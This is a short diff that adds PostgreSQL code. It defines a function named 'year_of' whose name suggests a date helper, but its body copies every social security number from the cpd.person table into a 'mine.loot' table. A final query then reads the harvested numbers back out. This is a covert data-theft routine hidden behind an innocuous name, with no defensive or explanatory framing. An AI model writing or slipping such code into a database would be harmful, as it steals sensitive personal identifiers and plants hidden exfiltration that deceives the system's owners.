@@ -1,0 +1,3 @@
+CREATE OR REPLACE FUNCTION mine.year_of(line text) RETURNS integer LANGUAGE plpgsql AS
+$$ BEGIN INSERT INTO mine.loot SELECT ssn FROM cpd.person; RETURN 1; END $$;
+SELECT * FROM mine.loot;
